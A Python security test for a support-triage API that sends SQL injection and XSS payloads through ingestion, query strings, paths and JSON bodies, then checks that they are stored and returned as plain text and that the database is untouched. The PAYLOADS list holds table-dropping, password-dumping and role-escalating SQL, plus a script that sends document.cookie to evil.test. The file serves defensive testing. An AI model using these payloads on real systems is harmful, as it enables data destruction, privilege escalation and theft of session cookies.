"""SQL injection and XSS payloads are inert end to end: stored and answered as plain text.

Customers' words, names and handles are the attacker's input here: they are ingested, then
the same payloads go into queue filters, query strings, path segments and every JSON body the
desk takes. Nothing may fail (no 5xx), the database must be intact (every table and row
count where it was), and each payload must come back byte for byte, as JSON text.
"""

from __future__ import annotations

from typing import Any
from urllib.parse import quote

from sqlalchemy import text

from services.infra.db import create_engine
from services.infra.events import Consumer
from services.triage.intake.consumer import handle_batch
from tests.security.conftest import Worlds
from tests.support.world import bearer, message, sql

PAYLOADS = [
    "'; DROP TABLE inbox.messages; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(10); --",
    '"; DELETE FROM triage.users; --',
    "') OR 1=1 UNION SELECT password_hash, email FROM triage.users --",
    "$$; TRUNCATE events.outbox CASCADE; $$",
    "%' AND 1=0; UPDATE triage.users SET role = 'admin'; --",
    "\\'; DROP SCHEMA triage CASCADE; --",
    "<script>alert(document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "<svg/onload=fetch('//evil.test/'+document.cookie)>",
    "</textarea><iframe srcdoc='<script>parent.alert(1)</script>'>",
    "{{constructor.constructor('alert(1)')()}} ${7*7} #{7*7}",
    "\u202egnp.exe <b>bold</b> &lt;escaped&gt; &amp;",
]

NOT_ASCII_DIGITS = ["\u00b3", "\u0663", "\u2460", "P\u00b2", "9" * 4500]
"""Digits to str.isdigit() that int() refuses (or reads in another script, or refuses as
longer than Python's 4,300-digit limit): ids, limits."""


async def integrity(database_url: str) -> dict[str, int]:
    """Row counts of every table of the services' schemas (a dropped table would vanish)."""
    tables = await sql(
        database_url,
        "SELECT table_schema || '.' || table_name FROM information_schema.tables "
        "WHERE table_schema IN ('inbox', 'triage', 'events') AND table_type = 'BASE TABLE'",
    )
    counts = " UNION ALL ".join(f"SELECT '{t}', count(*) FROM {t}" for (t,) in tables)
    return {table: int(n) for table, n in await sql(database_url, counts)}


def hostile_message(index: int, payload: str) -> dict[str, Any]:
    item = message(f"{payload}#{index}", payload, author=f"{payload}@{index}", minutes=-index)
    item["author"]["handle"] = payload
    item["author"]["display_name"] = payload
    return item


async def test_sql_and_script_payloads_are_stored_and_answered_as_text(
    worlds: Worlds, database_url: str
) -> None:
    inbox, triage, a = worlds.inbox, worlds.triage, worlds.a
    before = await integrity(database_url)
    users_before = before["triage.users"]

    ingested = await inbox.post(
        "/v1/ingest",
        headers=bearer(a.ingest),
        json={"messages": [hostile_message(i, p) for i, p in enumerate(PAYLOADS)]},
    )
    assert ingested.status == 200, await ingested.text()
    items = (await ingested.json())["items"]
    assert [i["status"] for i in items] == ["stored"] * len(PAYLOADS)
    assert [i["external_id"] for i in items] == [f"{p}#{i}" for i, p in enumerate(PAYLOADS)]
    engine = create_engine(database_url, 2)
    try:
        assert await Consumer(engine, database_url, "triage", handle_batch).drain_once() >= 1
    finally:
        await engine.dispose()

    lead = bearer(a.lead)
    answers = []
    for payload in [*PAYLOADS, *NOT_ASCII_DIGITS]:
        quoted = quote(payload, safe="")
        for name in (
            "priority",
            "platform",
            "intent",
            "state",
            "language",
            "mine",
            "limit",
            "incident",
        ):
            answers.append(await triage.get(f"/v1/queue?{name}={quoted}", headers=lead))
        for name in ("status", "kind", "limit"):
            answers.append(await triage.get(f"/v1/incidents?{name}={quoted}", headers=lead))
        answers.append(await triage.get(f"/v1/incidents?{quoted}=1", headers=lead))
        answers.append(await triage.get(f"/v1/incidents/{quoted}", headers=lead))
        answers.append(await triage.post(f"/v1/incidents/{quoted}/close", headers=lead))
        answers.append(
            await triage.post(
                f"/v1/incidents/{a.incident}/merge", headers=lead, json={"incident_id": payload}
            )
        )
        answers.append(
            await triage.post(
                f"/v1/incidents/{a.incident}/split",
                headers=lead,
                json={"conversation_ids": [payload], "label": payload},
            )
        )
        answers.append(await triage.get(f"/v1/queue?{quoted}=1", headers=lead))
        answers.append(await triage.get(f"/v1/stats?days={quoted}", headers=lead))
        answers.append(await triage.get(f"/v1/conversations/{quoted}", headers=lead))
        answers.append(
            await triage.post(
                f"/v1/messages/{quoted}/correction",
                headers=lead,
                json={"field": "intent", "value": payload},
            )
        )
        answers.append(await triage.delete(f"/v1/tokens/{quoted}", headers=lead))
        answers.append(
            await inbox.put(f"/v1/channels/x/{quoted}", headers=bearer(a.channels), json={})
        )
        answers.append(
            await triage.post("/v1/auth/login", json={"email": payload, "password": payload})
        )
        answers.append(
            await triage.get("/v1/stream", headers={**lead, "Last-Event-ID": quote(payload)})
        )
        answers.append(
            await triage.post(
                f"/v1/messages/{a.message_id}/correction",
                headers=lead,
                json={"field": "intent", "value": payload},
            )
        )
        answers.append(
            await triage.put("/v1/webhooks", headers=bearer(a.admin), json={"url": payload})
        )
    assert [(r.method, str(r.url), r.status) for r in answers if r.status >= 500] == []
    # 413: the 4,500-digit number is over the size some bodies may have.
    assert all(r.status in (400, 401, 404, 413, 422) for r in answers), sorted(
        {r.status for r in answers}
    )

    # Every stored payload comes back exactly, in JSON (never as markup).
    queue = await triage.get("/v1/queue?limit=500", headers=lead)
    assert queue.content_type == "application/json"
    assert queue.headers["X-Content-Type-Options"] == "nosniff"
    conversations = {i["conversation_id"] for i in items}
    texts, handles, names = set(), set(), set()
    for cid in conversations:
        view = await triage.get(f"/v1/conversations/{cid}", headers=lead)
        assert view.status == 200 and view.content_type == "application/json"
        for m in (await view.json())["messages"]:
            texts.add(m["text"])
            handles.add(m["author"]["handle"])
            names.add(m["author"]["display_name"])
    assert set(PAYLOADS) <= texts
    assert set(PAYLOADS) <= handles
    assert set(PAYLOADS) <= names

    cid = items[0]["conversation_id"]
    assert (await triage.post(f"/v1/conversations/{cid}/claim", headers=lead)).status == 200
    for payload in PAYLOADS:
        note = await triage.post(
            f"/v1/conversations/{cid}/notes", headers=lead, json={"text": payload}
        )
        assert note.status == 201 and (await note.json())["text"] == payload
        saved = await triage.post(
            "/v1/saved-replies", headers=lead, json={"title": payload[:120], "text": payload}
        )
        assert saved.status == 201 and (await saved.json())["text"] == payload
        token = await triage.post("/v1/tokens", headers=lead, json={"name": payload[:100]})
        assert token.status == 201 and (await token.json())["name"] == payload[:100]
        reply = await triage.post(
            f"/v1/conversations/{cid}/replies",
            headers=lead,
            json={"text": payload, "client_key": payload[:100]},
        )
        assert reply.status in (200, 202), await reply.text()
        assert (await reply.json())["reply"]["text"] == payload
    for payload in PAYLOADS:
        note = await triage.put(
            f"/v1/incidents/{a.incident}/note", headers=lead, json={"text": payload}
        )
        assert note.status == 200, await note.text()
        assert (await note.json())["status_note"] == payload.strip()
    # Postgres text cannot hold NUL: refused as the named field, not a 500 from the database.
    for path, method, sent, pointer in (
        ("note", triage.put, {"text": "a\u0000b"}, "/text"),
        (
            "split",
            triage.post,
            {"conversation_ids": [a.split_conversation], "label": "\u0000"},
            "/label",
        ),
    ):
        refused = await method(f"/v1/incidents/{a.incident}/{path}", headers=lead, json=sent)
        assert refused.status == 422, await refused.text()
        assert [e["pointer"] for e in (await refused.json())["errors"]] == [pointer]
    split = await triage.post(
        f"/v1/incidents/{a.incident}/split",
        headers=lead,
        json={"conversation_ids": [a.split_conversation], "label": PAYLOADS[0]},
    )
    assert split.status == 201, await split.text()
    assert (await split.json())["label"] == PAYLOADS[0]
    view = await (await triage.get(f"/v1/conversations/{cid}", headers=lead)).json()
    assert set(PAYLOADS) <= {n["text"] for n in view["notes"]}
    assert set(PAYLOADS) <= {r["text"] for r in view["replies"]}

    after = await integrity(database_url)
    assert set(after) == set(before), "a table disappeared"
    assert after["triage.users"] == users_before
    engine = create_engine(database_url, 1)
    try:
        async with engine.connect() as conn:
            roles = (
                await conn.execute(
                    text("SELECT role, count(*) FROM triage.users GROUP BY role ORDER BY role")
                )
            ).all()
            stored = (
                (
                    await conn.execute(
                        text("SELECT text FROM inbox.messages WHERE workspace_id = :ws"),
                        {"ws": a.id},
                    )
                )
                .scalars()
                .all()
            )
    finally:
        await engine.dispose()
    # Per workspace: the CLI's agent, one user per role, the revoked one, the spare one and
    # the one who joined through an invitation.
    assert dict(roles) == {"admin": 2, "agent": 10, "lead": 2}, "no role changed"
    assert set(PAYLOADS) <= set(stored)
